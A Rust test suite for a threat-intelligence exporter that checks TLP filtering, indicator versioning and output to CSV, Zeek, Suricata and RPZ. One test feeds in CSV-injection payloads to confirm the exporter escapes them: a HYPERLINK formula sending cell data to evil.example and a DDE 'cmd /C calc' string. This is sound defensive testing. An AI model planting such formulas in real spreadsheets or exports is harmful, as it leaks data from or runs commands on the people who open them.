//! End-to-end tests of `shieldwall export`: the audience filter by TLP, and the generated
//! Suricata rules and RPZ zone checked by the real tools (`suricata -T`, `named-checkzone`),
//! which `.ci/install-tools` installs; where absent the check prints `SKIPPED:`.
#![allow(clippy::unwrap_used)]

use std::path::Path;
use std::process::{Command, Output};

use serde_json::{Value, json};

const CLEAR: &str = "marking-definition--94868c89-83c2-464b-929b-a1a8aa3c8487";
const GREEN: &str = "marking-definition--bab4a63c-aed9-4cf5-a766-dfca5abac2bb";
const AMBER: &str = "marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421";
const RED: &str = "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1";
const TLP1_WHITE: &str = "marking-definition--613f2e26-407d-48c7-9eca-b8e91df99dc9";

fn shieldwall(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shieldwall"))
        .args(args)
        .output()
        .unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn ind(n: u32, pattern: &str, markings: &[&str]) -> Value {
    let mut v = json!({
        "type": "indicator", "spec_version": "2.1",
        "id": format!("indicator--00000000-0000-4000-8000-{n:012}"),
        "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
        "name": format!("indicator {n}"),
        "pattern": pattern, "pattern_type": "stix",
        "valid_from": "2024-01-01T00:00:00Z",
    });
    if !markings.is_empty() {
        v["object_marking_refs"] = json!(markings);
    }
    v
}

fn bundle(dir: &Path) -> String {
    let objects = vec![
        ind(
            1,
            "[domain-name:value = 'clear.evil.example' OR url:value = 'http://drop.evil.example/p;x?a=\"1\"']",
            &[CLEAR],
        ),
        ind(
            2,
            "[ipv4-addr:value = '203.0.113.7' OR ipv6-addr:value = '2001:db8::bad' OR ipv4-addr:value ISSUBSET '198.51.100.0/24']",
            &[GREEN],
        ),
        ind(
            3,
            "[file:hashes.'SHA-256' = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855' OR file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e' OR file:hashes.'SHA-1' = 'da39a3ee5e6b4b0d3255bfef95601890afd80709']",
            &[AMBER],
        ),
        ind(4, "[domain-name:value = 'red.evil.example']", &[RED]),
        ind(
            5,
            "[domain-name:value = 'unmarked.evil.example' OR x509-certificate:hashes.'SHA-1' = 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb']",
            &[],
        ),
        ind(
            6,
            "[domain-name:value = 'white.evil.example' OR email-addr:value = 'ceo@phish.example' OR file:name = 'invoice.pdf.exe']",
            &[TLP1_WHITE, GREEN],
        ),
        ind(
            7,
            "[domain-name:value = 'a.example'] FOLLOWEDBY [domain-name:value = 'b.example']",
            &[CLEAR],
        ),
    ];
    let p = dir.join("indicators.json");
    std::fs::write(&p, serde_json::to_vec(&json!({"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000001", "objects": objects})).unwrap()).unwrap();
    p.display().to_string()
}

fn csv_ids(o: &Output) -> Vec<String> {
    let mut ids: Vec<String> = String::from_utf8(o.stdout.clone())
        .unwrap()
        .lines()
        .skip(1)
        .map(|l| {
            l.split(',')
                .next()
                .unwrap()
                .trim_start_matches("indicator--00000000-0000-4000-8000-")
                .to_owned()
        })
        .collect();
    ids.dedup();
    ids
}

#[test]
fn the_audience_decides_which_tlp_levels_leave() {
    let dir = tempfile::tempdir().unwrap();
    let b = bundle(dir.path());
    let run = |aud: &str| {
        shieldwall(&[
            "export",
            "--format",
            "csv",
            "--audience",
            aud,
            "--indicators",
            &b,
        ])
    };
    let o = run("public");
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(csv_ids(&o), vec!["000000000001"]);
    assert!(stderr(&o).contains("withheld by TLP: 5"), "{}", stderr(&o));
    assert!(stderr(&o).contains("indicator--00000000-0000-4000-8000-000000000007: not exported: patterns over several observations"), "{}", stderr(&o));
    assert_eq!(
        csv_ids(&run("coalition")),
        vec!["000000000001", "000000000002", "000000000006"]
    );
    // Internal: everything but RED; an unmarked indicator counts as AMBER.
    assert_eq!(
        csv_ids(&run("internal")),
        vec![
            "000000000001",
            "000000000002",
            "000000000003",
            "000000000005",
            "000000000006"
        ]
    );
    let text = String::from_utf8(run("coalition").stdout).unwrap();
    assert!(text.starts_with("indicator,name,type,value,tlp,valid_from,valid_until\n"));
    assert!(
        text.contains(",ipv6,2001:db8::bad,TLP:GREEN,2024-01-01T00:00:00.000Z,\n"),
        "{text}"
    );
    assert!(
        // URLs are canonical (WHATWG): the quotes of the query percent-encoded.
        text.contains(",url,http://drop.evil.example/p;x?a=%221%22,TLP:CLEAR,"),
        "{text}"
    );
}

#[test]
fn lists_per_type_and_zeek_intel() {
    let dir = tempfile::tempdir().unwrap();
    let b = bundle(dir.path());
    let o = shieldwall(&[
        "export",
        "--format",
        "txt",
        "--type",
        "sha256",
        "--indicators",
        &b,
    ]);
    assert_eq!(
        String::from_utf8(o.stdout).unwrap(),
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n"
    );
    let out = dir.path().join("lists");
    let o = shieldwall(&[
        "export",
        "--format",
        "txt",
        "--audience",
        "coalition",
        "-o",
        out.to_str().unwrap(),
        "--indicators",
        &b,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mut names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "domain.txt",
            "email.txt",
            "file-name.txt",
            "ipv4.txt",
            "ipv6.txt",
            "url.txt"
        ]
    );
    assert_eq!(
        std::fs::read_to_string(out.join("domain.txt")).unwrap(),
        "clear.evil.example\nwhite.evil.example\n"
    );
    let o = shieldwall(&["export", "--format", "txt", "--indicators", &b]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("txt needs --type TYPE"),
        "{}",
        stderr(&o)
    );
    let o = shieldwall(&[
        "export",
        "--format",
        "txt",
        "--type",
        "nope",
        "--indicators",
        &b,
    ]);
    assert!(
        stderr(&o).contains("unknown --type \"nope\""),
        "{}",
        stderr(&o)
    );

    let o = shieldwall(&[
        "export",
        "--format",
        "zeek",
        "--audience",
        "coalition",
        "--indicators",
        &b,
    ]);
    let text = String::from_utf8(o.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "#fields\tindicator\tindicator_type\tmeta.source\tmeta.desc\tmeta.url"
    );
    assert!(
        lines[1..].iter().all(|l| l.split('\t').count() == 5),
        "{text}"
    );
    for want in [
        "clear.evil.example\tIntel::DOMAIN\tshieldwall\tindicator 1 (indicator--00000000-0000-4000-8000-000000000001)\t-",
        "drop.evil.example/p;x?a=%221%22\tIntel::URL\t",
        "198.51.100.0/24\tIntel::SUBNET\t",
        "2001:db8::bad\tIntel::ADDR\t",
        "ceo@phish.example\tIntel::EMAIL\t",
        "invoice.pdf.exe\tIntel::FILE_NAME\t",
    ] {
        assert!(text.contains(want), "{want} in {text}");
    }
}

#[test]
fn suricata_rules_pass_suricata_t() {
    let dir = tempfile::tempdir().unwrap();
    let b = bundle(dir.path());
    let rules = dir.path().join("out").join("shieldwall.rules");
    std::fs::create_dir(dir.path().join("out")).unwrap();
    let o = shieldwall(&[
        "export",
        "--format",
        "suricata",
        "--indicators",
        &b,
        "-o",
        rules.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = std::fs::read_to_string(&rules).unwrap();
    for want in [
        "dns.query; content:\"clear.evil.example\"; nocase; startswith; endswith;",
        "tls.sni; content:\"unmarked.evil.example\";",
        "http.host; content:\"drop.evil.example\"; startswith; endswith; http.uri.raw; content:\"/p|3B|x?a=%221%22\";",
        "alert ip any any -> [2001:db8::bad] any",
        "alert ip 198.51.100.0/24 any -> any any",
        "tls.cert_fingerprint; content:\"bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb:bb\";",
        "filesha256:shieldwall-sha256.list;",
        "filesha1:shieldwall-sha1.list;",
    ] {
        assert!(text.contains(want), "{want} in\n{text}");
    }
    assert!(!text.contains("red.evil.example"));
    let sha256 = std::fs::read_to_string(dir.path().join("out/shieldwall-sha256.list")).unwrap();
    assert_eq!(
        sha256,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n"
    );
    // Without --output, hash lists cannot be written: a clear error.
    let o = shieldwall(&["export", "--format", "suricata", "--indicators", &b]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("file-hash indicators need list files"),
        "{}",
        stderr(&o)
    );

    let Ok(check) = Command::new("suricata")
        .args(["-T", "--init-errors-fatal", "-S"])
        .arg(&rules)
        .arg("-l")
        .arg(dir.path())
        .output()
    else {
        println!(
            "SKIPPED: suricata is not installed (run .ci/install-tools); the rules were not checked by suricata -T"
        );
        return;
    };
    assert!(
        check.status.success(),
        "suricata -T failed:\n{}\n{}",
        String::from_utf8_lossy(&check.stdout),
        stderr(&check)
    );
    // The check is real: one broken rule fails it.
    std::fs::write(&rules, format!("{text}alert dns any any -> any any (msg:\"x\"; dns.query; content:\"a\"; no-such-keyword; sid:1;)\n")).unwrap();
    let check = Command::new("suricata")
        .args(["-T", "--init-errors-fatal", "-S"])
        .arg(&rules)
        .arg("-l")
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(!check.status.success());
}

#[test]
fn the_rpz_zone_passes_named_checkzone() {
    let dir = tempfile::tempdir().unwrap();
    let b = bundle(dir.path());
    let zone = dir.path().join("rpz.zone");
    let o = shieldwall(&[
        "export",
        "--format",
        "rpz",
        "--serial",
        "42",
        "--indicators",
        &b,
        "-o",
        zone.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = std::fs::read_to_string(&zone).unwrap();
    for want in [
        "( 42 3600 600 86400 300 )",
        "\nclear.evil.example CNAME .\n*.clear.evil.example CNAME .\n",
        "\n32.7.113.0.203.rpz-ip CNAME .\n",
        "\n24.0.100.51.198.rpz-ip CNAME .\n",
        "\n128.bad.zz.db8.2001.rpz-ip CNAME .\n",
    ] {
        assert!(text.contains(want), "{want} in\n{text}");
    }
    assert!(!text.contains("red.evil.example"));
    let Ok(check) = Command::new("named-checkzone")
        .arg("rpz.shieldwall")
        .arg(&zone)
        .output()
    else {
        println!(
            "SKIPPED: named-checkzone is not installed (run .ci/install-tools); the zone was not checked"
        );
        return;
    };
    assert!(
        check.status.success(),
        "named-checkzone failed:\n{}",
        String::from_utf8_lossy(&check.stdout)
    );
    assert!(String::from_utf8_lossy(&check.stdout).contains("loaded serial 42"));
}

/// Writes `objects` as a bundle named `name` in `dir`.
fn write_bundle(dir: &Path, name: &str, objects: Vec<Value>) -> String {
    let p = dir.join(name);
    std::fs::write(
        &p,
        json!({"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000002", "objects": objects}).to_string(),
    )
    .unwrap();
    p.display().to_string()
}

/// Version `modified` of indicator `n`.
fn at(n: u32, modified: &str, pattern: &str, markings: &[&str], extra: Value) -> Value {
    let mut v = ind(n, pattern, markings);
    v["modified"] = json!(modified);
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    v
}

fn csv_values(o: &Output) -> Vec<String> {
    let mut v: Vec<String> = String::from_utf8(o.stdout.clone())
        .unwrap()
        .lines()
        .skip(1)
        .map(|l| l.split(',').nth(3).unwrap().to_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn only_the_latest_version_in_the_files_is_exported_or_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let none = json!({});
    let old = write_bundle(
        d,
        "old.json",
        vec![
            at(
                21,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'tightened.evil.example']",
                &[GREEN],
                none.clone(),
            ),
            at(
                22,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'revoked.evil.example']",
                &[GREEN],
                none.clone(),
            ),
            at(
                23,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'old-value.evil.example']",
                &[GREEN],
                none.clone(),
            ),
            at(
                24,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'expired.evil.example']",
                &[GREEN],
                none.clone(),
            ),
            at(
                25,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'control.evil.example']",
                &[GREEN],
                none.clone(),
            ),
            at(
                26,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'granular.evil.example']",
                &[GREEN],
                json!({"granular_markings": [{"selectors": ["pattern"], "marking_ref": RED}]}),
            ),
            at(
                27,
                "2024-01-01T00:00:00.000Z",
                "[domain-name:value = 'future.evil.example']",
                &[GREEN],
                none.clone(),
            ),
        ],
    );
    let new = write_bundle(
        d,
        "new.json",
        vec![
            at(
                21,
                "2024-02-01T00:00:00.000Z",
                "[domain-name:value = 'tightened.evil.example']",
                &[RED],
                none.clone(),
            ),
            at(
                22,
                "2024-02-01T00:00:00.000Z",
                "[domain-name:value = 'revoked.evil.example']",
                &[GREEN],
                json!({"revoked": true}),
            ),
            at(
                23,
                "2024-02-01T00:00:00.000Z",
                "[domain-name:value = 'new-value.evil.example']",
                &[GREEN],
                none.clone(),
            ),
            at(
                24,
                "2024-02-01T00:00:00.000Z",
                "[domain-name:value = 'expired.evil.example']",
                &[GREEN],
                json!({"valid_until": "2024-06-01T00:00:00Z"}),
            ),
            at(
                27,
                "2024-02-01T00:00:00.000Z",
                "[domain-name:value = 'future.evil.example']",
                &[GREEN],
                json!({"valid_from": "2099-01-01T00:00:00Z"}),
            ),
            // A version of 21 older than both, after them in the files: it changes nothing.
            at(
                21,
                "2023-06-01T00:00:00.000Z",
                "[domain-name:value = 'tightened.evil.example']",
                &[CLEAR],
                none.clone(),
            ),
        ],
    );
    let export = |files: [&str; 2], audience: &str, extra: &[&str]| {
        let mut args = vec!["export", "--format", "csv", "--audience", audience];
        args.extend_from_slice(extra);
        for f in files {
            args.extend(["--indicators", f]);
        }
        let o = shieldwall(&args);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        o
    };
    for files in [[old.as_str(), new.as_str()], [new.as_str(), old.as_str()]] {
        for audience in ["coalition", "internal"] {
            let o = export(files, audience, &[]);
            assert_eq!(
                csv_values(&o),
                ["control.evil.example", "new-value.evil.example"],
                "{audience}: {}",
                stderr(&o)
            );
            assert!(
                stderr(&o).contains("withdrawn: 5 (revoked 1, expired 1, not yet valid 1, TLP not for this audience 2); older versions set aside: 6"),
                "{}",
                stderr(&o)
            );
            assert!(
                stderr(&o).contains("indicator--00000000-0000-4000-8000-000000000022 withdrawn: its latest version is revoked"),
                "{}",
                stderr(&o)
            );
        }
        // --any-time brings back what is not valid yet, never what expired or was revoked.
        let o = export(files, "coalition", &["--any-time"]);
        assert_eq!(
            csv_values(&o),
            [
                "control.evil.example",
                "future.evil.example",
                "new-value.evil.example"
            ],
            "{}",
            stderr(&o)
        );
    }

    // Scanning the same files: no hit on any value of a withdrawn or superseded version.
    let log: String = [
        "tightened", "revoked", "old-value", "new-value", "expired", "control", "granular", "future",
    ]
    .iter()
    .map(|d| format!("{{\"@timestamp\":\"2024-05-01T12:00:00Z\",\"dns\":{{\"question\":{{\"name\":\"{d}.evil.example\"}}}}}}\n"))
    .collect();
    let log_file = d.join("dns.json");
    std::fs::write(&log_file, log).unwrap();
    for files in [[old.as_str(), new.as_str()], [new.as_str(), old.as_str()]] {
        let o = shieldwall(&[
            "scan",
            "--json",
            "--indicators",
            files[0],
            "--indicators",
            files[1],
            log_file.to_str().unwrap(),
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        let mut hits: Vec<String> = String::from_utf8(o.stdout.clone())
            .unwrap()
            .lines()
            .map(|l| {
                serde_json::from_str::<Value>(l).unwrap()["value"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect();
        hits.sort();
        // Scans are not block lists: the RED indicators (latest versions) are scanned for.
        assert_eq!(
            hits,
            [
                "control.evil.example",
                "granular.evil.example",
                "new-value.evil.example",
                "tightened.evil.example"
            ],
            "{}",
            stderr(&o)
        );
        assert!(
            stderr(&o).contains("older versions set aside: 6"),
            "{}",
            stderr(&o)
        );
        // Only one file: version 1 of everything is the latest there.
        let o = shieldwall(&[
            "scan",
            "--json",
            "--indicators",
            &old,
            log_file.to_str().unwrap(),
        ]);
        assert!(
            String::from_utf8(o.stdout)
                .unwrap()
                .contains("revoked.evil.example")
        );
    }
}

#[test]
fn a_granular_red_marking_keeps_an_indicator_off_every_block_list() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let mut marked = ind(
        31,
        "[domain-name:value = 'granular.evil.example']",
        &[GREEN],
    );
    marked["granular_markings"] = json!([{"selectors": ["pattern"], "marking_ref": RED}, {"selectors": ["name"], "lang": "en"}]);
    let mut amber_name = ind(
        32,
        "[domain-name:value = 'amber-name.evil.example']",
        &[CLEAR],
    );
    amber_name["granular_markings"] = json!([{"selectors": ["name"], "marking_ref": AMBER}]);
    let f = write_bundle(
        d,
        "g.json",
        vec![
            marked,
            amber_name,
            ind(33, "[domain-name:value = 'control.evil.example']", &[GREEN]),
        ],
    );
    for (audience, want) in [
        ("public", vec![]),
        ("coalition", vec!["control.evil.example"]),
        (
            "internal",
            vec!["amber-name.evil.example", "control.evil.example"],
        ),
    ] {
        let o = shieldwall(&[
            "export",
            "--format",
            "csv",
            "--audience",
            audience,
            "--indicators",
            &f,
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(csv_values(&o), want, "{audience}: {}", stderr(&o));
        // The CSV's TLP column is the effective one.
        if audience == "internal" {
            let text = String::from_utf8(o.stdout).unwrap();
            assert!(
                text.contains(",domain,amber-name.evil.example,TLP:AMBER,"),
                "{text}"
            );
        }
        for format in ["suricata", "zeek", "rpz"] {
            let o = shieldwall(&[
                "export",
                "--format",
                format,
                "--audience",
                audience,
                "--indicators",
                &f,
            ]);
            assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
            assert!(
                !String::from_utf8(o.stdout)
                    .unwrap()
                    .contains("granular.evil.example"),
                "{format} {audience}"
            );
        }
    }
    let feed = d.join("feed");
    let o = shieldwall(&[
        "export",
        "--format",
        "misp-feed",
        "--audience",
        "internal",
        "--indicators",
        &f,
        "--out",
        feed.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mut all = String::new();
    for e in std::fs::read_dir(&feed).unwrap() {
        all.push_str(&std::fs::read_to_string(e.unwrap().path()).unwrap());
    }
    assert!(all.contains("control.evil.example"));
    assert!(!all.contains("granular.evil.example"), "{all}");
}

/// Parses RFC 4180 CSV (quoted cells, doubled quotes, line breaks inside quotes).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "ends with a line"
    );
    rows
}

#[test]
fn csv_cells_cannot_become_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "file:name = '=cmd|\\' /C calc\\'!A0'",
        ),
        ("+SUM(1,2)", "file:name = '+1+2.exe'"),
        ("-2+3", "file:name = '-1.2.3.4'"),
        ("@SUM(A1:A9)", "url:value = '=http://evil.example/'"),
        ("\tTAB", "file:name = '@invoice.exe'"),
        ("\r=CR", "email-addr:value = 'a,b\"c@evil.example'"),
    ];
    let mut objects: Vec<Value> = hostile
        .iter()
        .enumerate()
        .map(|(i, (name, test))| {
            let mut v = ind(40 + i as u32, &format!("[{test}]"), &[GREEN]);
            v["name"] = json!(name);
            v
        })
        .collect();
    objects.push(ind(
        50,
        "[domain-name:value = 'plain.evil.example' OR file:name = 'a-b=c.exe']",
        &[GREEN],
    ));
    let f = write_bundle(dir.path(), "hostile.json", objects);
    let o = shieldwall(&[
        "export",
        "--format",
        "csv",
        "--audience",
        "coalition",
        "--indicators",
        &f,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = String::from_utf8(o.stdout).unwrap();
    let rows = parse_csv(&text);
    assert_eq!(
        rows[0],
        [
            "indicator",
            "name",
            "type",
            "value",
            "tlp",
            "valid_from",
            "valid_until"
        ]
    );
    assert_eq!(rows.len(), 1 + hostile.len() + 2, "{text}");
    for row in &rows {
        assert_eq!(row.len(), 7, "{row:?} in {text}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would be a formula: {text}"
            );
        }
    }
    let cells: Vec<&str> = rows.iter().flatten().map(String::as_str).collect();
    for want in [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "'+SUM(1,2)",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTAB",
        "'\r=CR",
        "'=cmd|' /C calc'!A0",
        "'+1+2.exe",
        "'-1.2.3.4",
        "'=http://evil.example/",
        "'@invoice.exe",
        "a,b\"c@evil.example",
        // Ordinary values are left as they are.
        "plain.evil.example",
        "a-b=c.exe",
        "TLP:GREEN",
        "2024-01-01T00:00:00.000Z",
    ] {
        assert!(cells.contains(&want), "{want:?} in {text}");
    }
}
